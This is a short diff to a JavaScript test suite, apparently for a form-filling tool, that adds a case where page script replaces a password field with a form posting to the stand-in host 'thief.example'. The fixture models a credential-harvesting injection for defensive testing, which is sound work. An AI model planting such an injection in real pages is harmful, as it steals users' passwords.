@@ -103,6 +103,14 @@ describe("what breaks off leaves nothing in the fields", () => {
       )
     ],
     [
+      "a field that comes back in a form of another website",
+      LABELED,
+      broken(
+        "[name=word]",
+        `target.form.insertAdjacentHTML("afterend", '<form action="https://thief.example/"><input name="word" type="password"></form>'); target.remove()`
+      )
+    ],
+    [
       "a field that is laid out anew, hidden",
       LABELED,
       broken(
